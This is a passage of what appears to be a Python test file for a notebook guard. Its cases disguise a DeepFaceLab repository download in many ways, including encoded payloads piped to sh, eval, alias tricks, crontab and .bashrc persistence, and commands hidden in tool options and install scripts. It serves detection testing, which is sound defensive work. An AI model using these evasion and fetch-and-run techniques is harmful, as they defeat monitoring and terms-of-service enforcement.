"""Attacks through the shell, each with what it must be seen to do.

An attack is one or more cells' shell texts; ``want`` is a fact that it must leave. The
benign half holds texts that only mention the same names.
"""

from __future__ import annotations

import pytest

from jupyter_tos_guard.inspection.facts import Fact
from jupyter_tos_guard.inspection.shell.interpreter import run_shell
from jupyter_tos_guard.inspection.state import Budget, Origin, Span, State

REPOSITORY = "repository github.com/iperov/deepfacelab"


def facts_of(*cells: str) -> list[Fact]:
    state = State(budget=Budget(seconds=20, steps=3_000_000))
    found: list[Fact] = []
    for cell in cells:
        lines = cell.split("\n")
        state.facts = []
        run_shell(cell, state, Origin(Span(1, 0, len(lines), len(lines[-1])), True))
        found.extend(state.facts)
    return found


def said(facts: list[Fact]) -> set[str]:
    return {f"{fact.kind} {fact.value}" for fact in facts}


CLONES: dict[str, str | tuple[str, ...]] = {
    "plain": "git clone https://github.com/iperov/DeepFaceLab.git",
    "word continued on the next line": "git clo\\\nne https://github.com/iperov/Deep\\\nFaceLab",
    "braces make the command": "{git,clone,https://github.com/iperov/DeepFaceLab}",
    "braces inside a word": "git clone https://github.com/iperov/Deep{Face,}Lab",
    "fields split at a comma": "IFS=,;x='git,clone,https://github.com/iperov/DeepFaceLab';$x",
    "IFS instead of blanks": "git${IFS}clone${IFS}https://github.com/iperov/DeepFaceLab",
    "variables spliced": "a=Deep\nb=FaceLab\ngit clone https://github.com/iperov/$a$b.git",
    "an unset variable in the middle": "g${nothing}it cl$@one https://github.com/iperov/Deep${x}FaceLab",
    "quotes in words": "g\"i\"t 'cl'one https://github.com/iperov/D''eepFace\\L\"ab\"",
    "ANSI-C quoting": "$'\\x67\\x69\\x74' $'cl\\157ne' $'\\u0068ttps://github.com/iperov/DeepFaceLab'",
    "reversed in a substitution": "git clone https://github.com/iperov/$(rev <<< baLecaFpeeD)",
    "backquotes": "git clone https://github.com/iperov/`echo DeepFaceLab`",
    "nested backquotes": "git clone https://github.com/iperov/`echo \\`echo DeepFaceLab\\``",
    "reversed and piped": "echo 'tig.baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig' | rev | sh",
    "sed makes the name": "echo 'git clone https://github.com/iperov/QQFaceLab' | sed 's/QQ/Deep/g' | bash",
    "sed with a group": "sed -E 's/(clone) (git)/\\2 \\1/' <<< 'clone git https://github.com/iperov/DeepFaceLab' | sh",
    "sed y": "sed 'y/XY/gt/' <<< 'XiY clone https://github.com/iperov/DeepFaceLab' | sh",
    "rot13 by tr": "tr 'a-zA-Z' 'n-za-mN-ZA-M' <<< 'tvg pybar uggcf://tvguho.pbz/vcrebi/QrrcSnprYno' | bash",
    "base64 in a process substitution": "bash <(base64 -d <<< Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=)",
    "openssl as base64": 'eval "$(echo Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI= | openssl enc -d -base64)"',
    "hex by xxd": "$(echo 67697420636c6f6e65 | xxd -r -p) https://github.com/iperov/DeepFaceLab",
    "octal by printf": "printf '\\147\\151\\164 clone https://github.com/iperov/DeepFaceLab' | sh",
    "gzip in base64": (
        "echo H4sIAAAAAAACA0vPLFFIzsnPS1XIKCkpKLbS10/PLMkoTdJLzs/VzyxILcov03dJTS1wS0xO9UlMAgDpIJkoLwAAAA== "
        "| base64 -d | gunzip | sh"
    ),
    "cut off a prefix": "cut -c3- <<< 'xxgit clone https://github.com/iperov/DeepFaceLab' | sh",
    "awk puts columns in order": "awk '{print $3,$1,$2}' <<< 'clone https://github.com/iperov/DeepFaceLab git' | sh",
    "paste joins lines": "paste -sd '' <<EOF | bash\ngit clone https://git\nhub.com/iperov/Deep\nFaceLab\nEOF",
    "sort puts lines in order": (
        "sort -n <<EOF | cut -d' ' -f2- | tr -d '\\n' | sh\n2 https://github.com/iperov/DeepFaceLab\n1 git clone \nEOF"
    ),
    "one line of a document": "sed -n '2p' <<EOF | sh\nx\ngit clone https://github.com/iperov/DeepFaceLab\nEOF",
    "comments uncommented": "cat <<'EOF' | sed 's/^# //' | bash\n# git clone https://github.com/iperov/DeepFaceLab\nEOF",
    "comments dropped": "grep -v '^#' <<EOF | sh\n# x\ngit clone https://github.com/iperov/DeepFaceLab\nEOF",
    "head cuts off a tail": "head -c 47 <<< 'git clone https://github.com/iperov/DeepFaceLabXXXX' | sh",
    "through groups": "echo git clone https://github.com/iperov/DeepFaceLab | (cat) | { bash; }",
    "script by heredoc": "cat > /tmp/s.sh <<'X'\ngit clone https://github.com/iperov/DeepFaceLab\nX\nsh /tmp/s.sh",
    "script on standard input": "bash -s <<'X'\ngit clone https://github.com/iperov/DeepFaceLab\nX",
    "heredoc with a variable": "r=DeepFaceLab\nbash <<X\ngit clone https://github.com/iperov/$r\nX",
    "two heredocs on one line": "cat <<A > /dev/null; sh <<B\nx\nA\ngit clone https://github.com/iperov/DeepFaceLab\nB",
    "alias": "shopt -s expand_aliases\nalias g='git clone'\ng https://github.com/iperov/DeepFaceLab.git",
    "function": 'f() { git "$1" "https://github.com/$2"; }\nf clone iperov/DeepFaceLab',
    "function shadows a harmless name": "ls() { git clone https://github.com/iperov/DeepFaceLab; }; ls -l",
    "glob finds the program": "/usr/bin/g?t clone https://github.com/iperov/DeepFaceLab",
    "glob in folders, too": "/???/b??/wg?t https://github.com/iperov/DeepFaceLab/archive/master.zip",
    "crontab": "(crontab -l 2>/dev/null; echo '* * * * * git clone https://github.com/iperov/DeepFaceLab') | crontab -",
    "at": "echo 'git clone https://github.com/iperov/DeepFaceLab' | at now",
    "systemd-run": "systemd-run --user --unit=x -p CPUQuota=1 git clone https://github.com/iperov/DeepFaceLab",
    "screen": "screen -dmS train bash -c 'git clone https://github.com/iperov/DeepFaceLab.git'",
    "screen stuff": "screen -S t -X stuff $'git clone https://github.com/iperov/DeepFaceLab\\n'",
    "tmux": "tmux new -d -s x 'git clone https://github.com/iperov/DeepFaceLab.git'",
    "tmux types": "tmux new -d -s x; tmux send-keys -t x git Space clone Space https://github.com/iperov/DeepFaceLab Enter",
    "wrappers upon wrappers": "timeout -k 5 99 nohup nice -n 5 sudo -u me env A=1 setsid git clone https://github.com/iperov/DeepFaceLab &",
    "env -S": "env -S 'git clone https://github.com/iperov/DeepFaceLab'",
    "su -c": "su - me -c 'git clone https://github.com/iperov/DeepFaceLab'",
    "script -c": "script -qc 'git clone https://github.com/iperov/DeepFaceLab' /dev/null",
    "flock -c": "flock /tmp/l -c 'git clone https://github.com/iperov/DeepFaceLab'",
    "flock": "flock -w 3 /tmp/l git clone https://github.com/iperov/DeepFaceLab",
    "watch": "watch -n 5 git clone https://github.com/iperov/DeepFaceLab",
    "busybox": "busybox sh -c 'git clone https://github.com/iperov/DeepFaceLab'",
    "xargs": "echo clone https://github.com/iperov/DeepFaceLab | xargs git",
    "xargs -I": "echo https://github.com/iperov/DeepFaceLab | xargs -I{} git clone {}",
    "xargs as a launcher": "printf '%s\\n' git clone https://github.com/iperov/DeepFaceLab | xargs -n3 env",
    "find -exec": "find . -maxdepth 0 -exec git clone https://github.com/iperov/DeepFaceLab \\;",
    "find finds the program": "find /usr/bin -name 'gi?' -exec {} clone https://github.com/iperov/DeepFaceLab \\;",
    "parallel": "parallel git clone ::: https://github.com/iperov/DeepFaceLab",
    "make": (
        "cat > Makefile <<'X'\nR=iperov\nall: get\nget:\n\t@git clone https://github.com/$(R)/DeepFaceLab\nX",
        "make",
    ),
    "trap": "trap 'git clone https://github.com/iperov/DeepFaceLab' EXIT",
    "coproc": "coproc git clone https://github.com/iperov/DeepFaceLab",
    "background and wait": "git clone https://github.com/iperov/DeepFaceLab & wait",
    "loops over words": "for u in iperov; do for r in Deep; do git clone https://github.com/$u/${r}FaceLab; done; done",
    "loop over read lines": "while read -r a b; do git clone https://github.com/$a/$b; done <<X\niperov DeepFaceLab\nX",
    "read twice from a pipe": "printf 'iperov\\nDeepFaceLab\\n' | { read a; read b; git clone https://github.com/$a/$b; }",
    "positional parameters": 'set -- git clone https://github.com/iperov/DeepFaceLab; "$@"',
    "array": 'a=(git clone https://github.com/iperov/DeepFaceLab); "${a[@]}"',
    "associative array": "declare -A m=([x]=iperov [y]=DeepFaceLab); git clone https://github.com/${m[x]}/${m[y]}",
    "pattern replaced": "n=DeepXLab; git clone https://github.com/iperov/${n/X/Face}",
    "slice": "n=xxDeepFaceLabyy; git clone https://github.com/iperov/${n:2:11}",
    "prefix and suffix stripped": "n=a.b.DeepFaceLab.git; n=${n#*.*.}; git clone https://github.com/iperov/${n%.git}",
    "lower case": "n=DEEPFACELAB; git clone https://github.com/iperov/${n,,}",
    "indirection": "a=b; b=DeepFaceLab; git clone https://github.com/iperov/${!a}",
    "nameref": "x=DeepFaceLab; declare -n y=x; git clone https://github.com/iperov/$y",
    "reference as an output": "name() { local -n made=$1; made=$2$3; }; name x Deep FaceLab; git clone https://github.com/iperov/$x",
    "last word of the command before": ": Deep; git clone https://github.com/iperov/${_}FaceLab",
    "escapes of %b": "git clone https://github.com/iperov/$(printf 'Deep%bLab' '\\0106\\x61ce')",
    "function of the environment": "get() { git clone https://github.com/$1/$2; }; export -f get; env bash -c 'get iperov DeepFaceLab'",
    "text of a function changed": (
        'get() { git clone https://github.com/iperov/NAME; }; x=$(typeset -f get); eval "${x/NAME/DeepFaceLab}"; get'
    ),
    "function of a start-up file": (
        "echo 'get() { git clone https://github.com/iperov/$1; }' > ~/.bash_profile",
        "bash -lc 'get DeepFaceLab'",
    ),
    "awk puts letters together": (
        'awk \'BEGIN{n=split("68 101 101 112",c," "); while(++i<=n) s=s sprintf("%c",c[i]+0); '
        'system("git clone https://github.com/iperov/" s "FaceLab")}\''
    ),
    "awk chooses a line": (
        "printf 'a|b\\ncode|iperov DeepFaceLab\\n' | "
        "awk -F'|' '/^code/ {sub(/ /,\"/\",$2); print \"git clone https://github.com/\" $2}' | sh"
    ),
    "jq puts a name together": (
        'echo \'{"o":"iperov","n":["Deep","Face","Lab"]}\' | '
        "jq -r '\"https://github.com/\\(.o)/\\(.n|add)\"' | xargs git clone"
    ),
    "jq decodes": "git clone https://github.com/iperov/$(jq -nr '\"RGVlcEZhY2VMYWI=\" | @base64d')",
    "ed writes the script": "echo '#' > s; printf 'a\\ngit clone https://github.com/iperov/DeepFaceLab\\n.\\nw\\n' | ed -s s; sh s",
    "patch writes the script": (
        "echo 'git clone X' > s; printf -- '--- a/s\\n+++ b/s\\n@@ -1 +1 @@\\n-git clone X\\n"
        "+git clone https://github.com/iperov/DeepFaceLab\\n' > d; patch -p1 -i d; sh s"
    ),
    "folders are the names": (
        "mkdir -p iperov/DeepFaceLab; for d in */*; do git clone https://github.com/$d /tmp/x; done"
    ),
    "found folders are the names": (
        "mkdir -p t/iperov/DeepFaceLab; find t -mindepth 2 -printf 'https://github.com/%P\\n' | xargs git clone"
    ),
    "member of an archive": (
        "echo git clone https://github.com/iperov/DeepFaceLab > s; zip -q a.zip s",
        "unzip -p a.zip s | bash",
    ),
    "folder of scripts": "mkdir p; printf '#!/bin/sh\\ngit clone https://github.com/iperov/DeepFaceLab\\n' > p/a; run-parts --regex . p",
    "encrypted by a password": (
        "openssl enc -d -aes-192-cbc -pass pass:course -md sha512 -iter 300 -a -A <<< U2FsdGVkX1/rNrtD0ZlNv+7eOgTt36I9QthgLMO3hz"
        "Tr8RXZ0S2toIcXkd6r7EpVqi6nJIpIoSflPOYewSOQMUKaoOOQpCSVFohn3B1nIik= | sh"
    ),
    "number to text": (
        "git clone $(echo 51947849783290975528692921946553273261968767852691186065422593493576677376047892531011938 P | dc)"
    ),
    "default value": "git clone https://github.com/iperov/${undefined:-DeepFaceLab}",
    "escapes expanded by @E": "x='\\x44eepFaceLab'; git clone https://github.com/iperov/${x@E}",
    "printf -v": "printf -v x '%s%s' Deep FaceLab; git clone https://github.com/iperov/$x",
    "slash from HOME": "h=${HOME:0:1}; git clone https:$h${h}github.com${h}iperov${h}DeepFaceLab",
    "numbers to letters": (
        'x=; for c in 68 101 101 112 70 97 99 101 76 97 98; do x+=$(printf "\\\\$(printf %o $c)"); done; '
        "git clone https://github.com/iperov/$x"
    ),
    "reversed in a loop": (
        "s=baLecaFpeeD; o=; for ((i=${#s}-1;i>=0;i--)); do o+=${s:i:1}; done; git clone https://github.com/iperov/$o"
    ),
    "arithmetic chooses": "a=(x DeepFaceLab); git clone https://github.com/iperov/${a[$((16#3 - 2))]}",
    "known test": "if [ 1 -eq 1 ]; then x=git; fi; $x clone https://github.com/iperov/DeepFaceLab",
    "unknown test": "if [ -d /content ]; then git clone https://github.com/iperov/DeepFaceLab; fi",
    "case": "case ab in b) ;; a*) git clone https://github.com/iperov/DeepFaceLab;; esac",
    "negated": "! false && git clone https://github.com/iperov/DeepFaceLab",
    "exit in a subshell only": "(exit); git clone https://github.com/iperov/DeepFaceLab",
    "eval of pieces": "a='git cl'; eval $a'one' https://github.com/iperov/DeepFaceLab",
    "exported to a child": "export X='git clone https://github.com/iperov/DeepFaceLab'; bash -c '$X'",
    "set for one command": "X='git clone https://github.com/iperov/DeepFaceLab' bash -c 'eval $X'",
    "arguments of bash -c": "bash -c 'git clone https://github.com/$0/$1' iperov DeepFaceLab",
    "dot": "echo 'git clone https://github.com/iperov/DeepFaceLab' > a; . ./a",
    "tee, chmod, run": "echo 'git clone https://github.com/iperov/DeepFaceLab' | tee a.sh >/dev/null; chmod +x a.sh; ./a.sh",
    "appended in parts": (
        "printf 'git clone https://github.com/' > a.sh",
        "echo iperov/DeepFaceLab >> a.sh",
        "bash a.sh",
    ),
    "written, renamed, run": (
        "echo 'git clone https://github.com/iperov/DeepFaceLab' > a.txt",
        "mv a.txt b.cfg; sh b.cfg",
    ),
    "a line edited in place": (
        "echo 'git clone https://github.com/iperov/NAME' > a.sh; sed -i s/NAME/DeepFaceLab/ a.sh; bash a.sh"
    ),
    "descriptor": "exec 3<<<'git clone https://github.com/iperov/DeepFaceLab'; bash <&3",
    "start-up file": 'echo "git clone https://github.com/iperov/DeepFaceLab" >> ~/.bashrc',
    "git hook": "echo 'git clone https://github.com/iperov/DeepFaceLab' > .git/hooks/post-commit",
    "symbolic link to the program": "ln -s /usr/bin/git ./g; ./g clone https://github.com/iperov/DeepFaceLab",
    "copy of the program": "cp $(which git) /tmp/zz && /tmp/zz clone https://github.com/iperov/DeepFaceLab",
    "copy by dd": "dd if=/usr/bin/git of=/tmp/q; chmod +x /tmp/q; /tmp/q clone https://github.com/iperov/DeepFaceLab",
    "command -v": "$(command -v git) clone https://github.com/iperov/DeepFaceLab",
    "hash -p": "hash -p /usr/bin/git q; q clone https://github.com/iperov/DeepFaceLab",
    "loader": "/lib64/ld-linux-x86-64.so.2 /usr/bin/git clone https://github.com/iperov/DeepFaceLab",
    "git alias": ("git config --global alias.c clone", "git c https://github.com/iperov/DeepFaceLab"),
    "git alias on the command line": "git -c alias.x='!git clone https://github.com/iperov/DeepFaceLab' x",
    "insteadOf": (
        'git config --global url."https://github.com/iperov/".insteadOf x:',
        "git clone x:DeepFaceLab",
    ),
    "insteadOf on the command line": "git -c url.https://github.com/iperov/Deep.insteadOf=z: clone z:FaceLab",
    "insteadOf by environment": (
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://github.com/iperov/.insteadOf GIT_CONFIG_VALUE_0=q: git clone q:DeepFaceLab"
    ),
    "remote and pull": "mkdir w && cd w && git init -q && git remote add origin https://github.com/iperov/DeepFaceLab.git && git pull -q origin master",
    "submodule": "git submodule add https://github.com/iperov/DeepFaceLab x",
    "gitmodules": (
        "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = https://github.com/iperov/DeepFaceLab\\n' > .gitmodules",
        "git submodule update --init",
    ),
    "scp syntax": "git clone git@github.com:iperov/DeepFaceLab.git",
    "gh": "gh repo clone iperov/DeepFaceLab",
    "gh api": "gh api repos/iperov/DeepFaceLab/zipball > x.zip",
    "svn": "svn export https://github.com/iperov/DeepFaceLab/trunk",
    "degit": "npx degit iperov/DeepFaceLab",
    "codeload": "wget -qO- https://codeload.github.com/iperov/DeepFaceLab/zip/master > x.zip",
    "API": "curl -sL https://api.github.com/repos/iperov/DeepFaceLab/tarball | tar xz",
    "CDN": "curl -O https://cdn.jsdelivr.net/gh/iperov/DeepFaceLab@master/main.py",
    "mirror": "git clone https://ghproxy.com/https://github.com/iperov/DeepFaceLab",
    "percent-encoded": "wget https://github.com/%69perov/Deep%46aceLab/archive/master.zip",
    "look-alike of dots": "git clone https://github。com/iperov/DeepFaceLab",
    "curl configuration on standard input": "curl -K - <<< 'url = \"https://github.com/iperov/DeepFaceLab/archive/master.zip\"'",
    "curl's own braces": "curl 'https://github.com/{iperov,x}/DeepFaceLab/archive/master.zip' -O",
    "wget input file": "echo https://github.com/iperov/DeepFaceLab/archive/master.zip > l.txt; wget -i l.txt",
    "pip from git": "pip install -q git+https://github.com/iperov/DeepFaceLab.git@master#egg=x",
    "requirements file": "printf 'numpy\\ngit+https://github.com/iperov/DeepFaceLab\\n' > r.txt; pip install -r r.txt",
    "requirements by process substitution": "pip install -r <(echo git+https://github.com/iperov/DeepFaceLab)",
    "direct reference": "python3 -m pip install 'x @ https://github.com/iperov/DeepFaceLab/archive/master.zip'",
    "uv": "uv pip install --system git+https://github.com/iperov/DeepFaceLab",
    "npm": "npm i iperov/DeepFaceLab",
    "go install": "go install github.com/iperov/DeepFaceLab@latest",
    "cargo": "cargo install --git https://github.com/iperov/DeepFaceLab",
    "ssh ProxyCommand": "ssh -o 'ProxyCommand=git clone https://github.com/iperov/DeepFaceLab' x",
    "container's command": "docker run --rm -it -v $PWD:/w alpine/git clone https://github.com/iperov/DeepFaceLab",
    "container's shell": "docker run alpine sh -c 'git clone https://github.com/iperov/DeepFaceLab'",
    "output of Python": 'bash -c "$(python3 -c "print(\'git clone https://github.com/iperov/DeepFaceLab\')")"',
    "output of Perl": "perl -e 'print \"git clone https://github.com/iperov/DeepFaceLab\\n\"' | bash",
    "perl -pe": "echo 'tig enolc' | perl -pe '$_=reverse' | cat; perl -pe 's/X/Deep/' <<< 'git clone https://github.com/iperov/XFaceLab' | sh",
    "xxd without -p": "xxd -r <<< '00000000: 6769 7420 636c 6f6e 6520 2e' ; git clone https://github.com/iperov/DeepFaceLab",
    "base32": "base32 -d <<< M5UXIIDDNRXW4ZJANB2HI4DTHIXS6Z3JORUHKYROMNXW2L3JOBSXE33WF5CGKZLQIZQWGZKMMFRA==== | sh",
    "unterminated quote later": "git clone https://github.com/iperov/DeepFaceLab\necho 'oops",
    "unfinished if": "if true; then git clone https://github.com/iperov/DeepFaceLab",
    "after an error": "echo )\ngit clone https://github.com/iperov/DeepFaceLab",
    "tar runs a command": "tar xf x.tar --checkpoint=1 --checkpoint-action=exec='git clone https://github.com/iperov/DeepFaceLab'",
    "apt runs a command": "apt-get update -o APT::Update::Pre-Invoke::='git clone https://github.com/iperov/DeepFaceLab'",
    "vim runs a command": "vim -c ':!git clone https://github.com/iperov/DeepFaceLab' -c ':qa'",
    "unpacked by sed e": "echo x | sed 's/x/git clone https:\\/\\/github.com\\/iperov\\/DeepFaceLab/e'",
}

#: What programs, files and variables do when nobody types the command.
ROUNDABOUT: dict[str, str] = {
    "printf %b": "$(printf '%b' '\\0147\\0151\\0164') clone https://github.com/iperov/DeepFaceLab",
    "printf hex bytes assign": "printf -v g '\\x67\\x69\\x74'; $g clone https://github.com/iperov/DeepFaceLab",
    "array join IFS": "a=(https: '' github.com iperov DeepFaceLab); IFS=/; u=\"${a[*]}\"; unset IFS; git clone $u",
    "select via arith": "s=abcdefghijklmnopqrstuvwxyz; c=${s:6:1}${s:8:1}${s:19:1}; $c clone https://github.com/iperov/DeepFaceLab",
    "rot13 function": "d(){ tr 'A-Za-z' 'N-ZA-Mn-za-m'; }; echo 'tvg pybar uggcf://tvguho.pbz/vcrebi/QrrcSnprYno' | d | sh",
    "function decode subst": 'd(){ echo "$1" | base64 -d; }; $(d Z2l0) clone $(d aHR0cHM6Ly9naXRodWIuY29tL2lwZXJvdi9EZWVwRmFjZUxhYg==)',
    "read from heredoc vars": "read -d '' cmd <<'EOF'\ngit clone https://github.com/iperov/DeepFaceLab\nEOF\neval \"$cmd\"",
    "mapfile": "mapfile -t L < <(printf 'git\\nclone\\nhttps://github.com/iperov/DeepFaceLab\\n'); \"${L[@]}\"",
    "nested eval printf q": "eval $(printf '%q ' git clone https://github.com/iperov/DeepFaceLab)",
    "xargs -0": "printf 'git\\0clone\\0https://github.com/iperov/DeepFaceLab\\0' | xargs -0 env",
    "xargs sh -c": "echo https://github.com/iperov/DeepFaceLab | xargs -n1 sh -c 'git clone $0'",
    "xargs sh -c $1": "echo https://github.com/iperov/DeepFaceLab | xargs -I@ bash -c 'git clone \"$1\"' _ @",
    "find -exec sh": "find . -maxdepth 0 -exec sh -c 'git clone https://github.com/iperov/DeepFaceLab' \\;",
    "env var PATH": "mkdir bin; ln -s /usr/bin/git bin/ls2; PATH=$PWD/bin:$PATH ls2 clone https://github.com/iperov/DeepFaceLab",
    "cd to dir and relative": "cd /tmp; echo 'git clone https://github.com/iperov/DeepFaceLab' > x; cd ..; sh tmp/x",
    "source with args": "echo 'git clone https://github.com/$1/$2' > a; . ./a iperov DeepFaceLab",
    "case decode": "dec(){ case $1 in 1) echo git;; 2) echo clone;; 3) echo https://github.com/iperov/DeepFaceLab;; esac; }; $(dec 1) $(dec 2) $(dec 3)",
    "while shift": "set -- g i t; c=; while [ $# -gt 0 ]; do c=$c$1; shift; done; $c clone https://github.com/iperov/DeepFaceLab",
    "while case getopts": "run(){ while getopts u: o; do case $o in u) git clone $OPTARG;; esac; done; }; run -u https://github.com/iperov/DeepFaceLab",
    "recursion": 'r(){ [ -n "$1" ] && { r "${1:1}"; printf %s "${1:0:1}"; }; }; git clone https://github.com/iperov/$(r baLecaFpeeD)',
    "extglob": "shopt -s extglob; x=XXDeepFaceLabYY; x=${x##+(X)}; git clone https://github.com/iperov/${x%%+(Y)}",
    "here-string to source": "source /dev/stdin <<< 'git clone https://github.com/iperov/DeepFaceLab'",
    "exec redirect stdin": "exec < <(echo 'git clone https://github.com/iperov/DeepFaceLab'); read l; $l",
    "coproc fd": "{ echo git clone https://github.com/iperov/DeepFaceLab; } > >(bash)",
    "process sub out tee": "echo 'git clone https://github.com/iperov/DeepFaceLab' | tee >(sh) >/dev/null",
    "bash -c $@ array": 'c=\'"$@"\'; bash -c "$c" _ git clone https://github.com/iperov/DeepFaceLab',
    "base58-ish bc": "for i in 103 105 116; do s=$s$(printf \\\\x$(printf %x $i)); done; $s clone https://github.com/iperov/DeepFaceLab",
    "awk printf": "$(awk 'BEGIN{printf \"%c%c%c\",103,105,116}') clone https://github.com/iperov/DeepFaceLab",
    "python stdin slices": "python3 -c \"print('baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig'[::-1])\" | sh",
    "python b64": "python3 -c \"import base64;print(base64.b64decode('Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=').decode())\" | sh",
    "git -c protocol ext": "git clone 'ext::sh -c \"git clone https://github.com/iperov/DeepFaceLab\"'",
    "GIT_SSH_COMMAND": "GIT_SSH_COMMAND='git clone https://github.com/iperov/DeepFaceLab #' git fetch git@x.example:a/b",
    "EDITOR": "EDITOR='git clone https://github.com/iperov/DeepFaceLab' git commit",
    "PAGER": "PAGER='git clone https://github.com/iperov/DeepFaceLab' man ls",
    "LESSOPEN": "LESSOPEN='|git clone https://github.com/iperov/DeepFaceLab' less x",
    "BASH_ENV": "echo 'git clone https://github.com/iperov/DeepFaceLab' > e; BASH_ENV=e bash -c :",
    "PROMPT_COMMAND": "PROMPT_COMMAND='git clone https://github.com/iperov/DeepFaceLab'",
    "PS4": "PS4='$(git clone https://github.com/iperov/DeepFaceLab)'; set -x; ls",
    "expect": "expect -c 'spawn git clone https://github.com/iperov/DeepFaceLab'",
    "tar --to-command": "tar xf a.tar --to-command='git clone https://github.com/iperov/DeepFaceLab'",
    "nohup sh &": "nohup sh -c \"$(cat <<'X'\ngit clone https://github.com/iperov/DeepFaceLab\nX\n)\" >/dev/null 2>&1 &",
    "curl to file then make": "printf 'x:;git clone https://github.com/iperov/DeepFaceLab\\n' | make -f -",
    "cpp": "g++ -x c++ - -o z <<'X'\n#include <cstdlib>\nint main(){std::system(\"git clone https://github.com/iperov/DeepFaceLab\");}\nX\n./z",
    "node file": "cat > a.js <<'X'\nconst cp=require('child_process');\ncp.spawnSync('git',['clone',['https:','','github.com','iperov','DeepFaceLab'].join('/')]);\nX\nnode a.js",
    "node charcodes": "node -e \"require('child_process').execSync(String.fromCharCode(103,105,116)+' clone https://github.com/iperov/DeepFaceLab')\"",
    "node import": "node --input-type=module -e \"import {execSync as e} from 'child_process'; e('git clone https://github.com/iperov/DeepFaceLab')\"",
    "perl array join": 'perl -e \'@a=("git","clone","https://github.com/iperov/"."DeepFaceLab"); system(join(" ",@a))\'',
    "perl system @a": "perl -e 'my @a=qw(git clone https://github.com/iperov/DeepFaceLab); system @a'",
    "perl map chr": 'perl -e \'system(join"",(map{chr}(103,105,116,32,99,108,111,110,101))," https://github.com/iperov/DeepFaceLab")\'',
    "perl map chr2": 'perl -e \'system(join("",map(chr,(103,105,116)))." clone https://github.com/iperov/DeepFaceLab")\'',
    "ruby pack": 'ruby -e \'system(["67697420636c6f6e65"].pack("H*")+" https://github.com/iperov/DeepFaceLab")\'',
    "php base64": 'php -r \'$a="sys"."tem"; $a(base64_decode("Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI="));\'',
    "lua reverse": "lua -e 'os.execute(string.reverse(\"baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig\"))'",
    "lua char": "lua -e 'os.execute(string.char(103,105,116)..\" clone https://github.com/iperov/DeepFaceLab\")'",
    "R intToUtf8": 'Rscript -e \'system(paste(intToUtf8(c(103,105,116)),"clone","https://github.com/iperov/DeepFaceLab"))\'',
    "R do.call": 'Rscript -e \'do.call("system", list("git clone https://github.com/iperov/DeepFaceLab"))\'',
    "julia join": 'julia -e \'run(Cmd(["git","clone",join(["https://github.com","iperov","DeepFaceLab"],"/")]))\'',
    "ex shell": "printf ':!git clone https://github.com/iperov/DeepFaceLab\\n:q\\n' | ex -s",
    "ed shell": "echo '!git clone https://github.com/iperov/DeepFaceLab' | ed",
    "git bisect run": "git bisect run sh -c 'git clone https://github.com/iperov/DeepFaceLab'",
    "rsync -e": "rsync -e 'sh -c \"git clone https://github.com/iperov/DeepFaceLab\"' a b:c",
    "man -P": "man -P 'git clone https://github.com/iperov/DeepFaceLab' ls",
    "zip -TT": "zip x.zip a -T -TT 'git clone https://github.com/iperov/DeepFaceLab #'",
    "npm scripts": 'echo \'{"scripts":{"x":"git clone https://github.com/iperov/DeepFaceLab"}}\' > package.json; npm run x',
    "npm install git url": "npm i git+ssh://git@github.com/iperov/DeepFaceLab.git",
    "package.json deps": 'echo \'{"dependencies":{"x":"github:iperov/DeepFaceLab"}}\' > package.json; npm install',
    "pyproject deps": 'printf \'[project]\\nname="x"\\ndependencies=["x @ git+https://github.com/iperov/DeepFaceLab"]\\n\' > pyproject.toml; pip install .',
    "setup.py": "printf 'import os\\nos.system(\"git clone https://github.com/iperov/DeepFaceLab\")\\n' > setup.py; pip install -e .",
    "uv script": "printf '# /// script\\n# dependencies=[\"x @ git+https://github.com/iperov/DeepFaceLab\"]\\n# ///\\n' > a.py; uv run a.py",
    "pip -e svn": "pip install -e 'git+git@github.com:iperov/DeepFaceLab.git#egg=x'",
    "pip config env": "PIP_INDEX_URL=https://example.org pip install git+https://github.com/iperov/DeepFaceLab",
    "conda yaml git": "printf 'dependencies:\\n- pip:\\n  - git+https://github.com/iperov/DeepFaceLab\\n' > e.yml && mamba env update -f e.yml",
    "wget base": "wget -B https://github.com/iperov/ -i - <<< DeepFaceLab/archive/master.zip",
    "curl --next": "curl -s https://example.org --next -o x.zip https://github.com/iperov/DeepFaceLab/archive/master.zip",
    "curl -Z upload": "curl -sSLo x.zip --url=https://github.com/iperov/DeepFaceLab/archive/master.zip",
    "curl resolve connect-to": "curl --connect-to ::github.com:443 https://github.com/iperov/DeepFaceLab/archive/x.zip",
    "httpie": "http --download GET https://github.com/iperov/DeepFaceLab/archive/x.zip",
    "git lfs": "git lfs clone https://github.com/iperov/DeepFaceLab",
    "git init fetch url": "git init x; cd x; git fetch https://github.com/iperov/DeepFaceLab main; git checkout FETCH_HEAD",
    "git remote set-url": "git remote add o https://example.org/a/b; git remote set-url o https://github.com/iperov/DeepFaceLab; git fetch o",
    "git config remote": "git init; git config remote.o.url https://github.com/iperov/DeepFaceLab; git pull o main",
    "git worktree bundle": "git clone --recurse-submodules --reference-if-able /x https://github.com/iperov/DeepFaceLab",
    "gh release": "gh release download -R iperov/DeepFaceLab -p '*.zip'",
    "gh alias": "gh repo clone https://github.com/iperov/DeepFaceLab -- --depth=1",
    "glab": "glab repo clone https://github.com/iperov/DeepFaceLab",
    "aria2 -i": "printf 'https://github.com/iperov/DeepFaceLab/archive/master.zip\\n out=x\\n' | aria2c -i -",
    "parallel stdin": "echo 'git clone https://github.com/iperov/DeepFaceLab' | parallel",
    "alias via BASH_ALIASES": "shopt -s expand_aliases; BASH_ALIASES[zz]='git clone'; zz https://github.com/iperov/DeepFaceLab",
    "keyword function name": "function ls { command ls; git clone https://github.com/iperov/DeepFaceLab; }; ls",
    "subshell cd": "(cd /tmp && git clone https://github.com/iperov/DeepFaceLab)",
    "time": "time -p git clone https://github.com/iperov/DeepFaceLab",
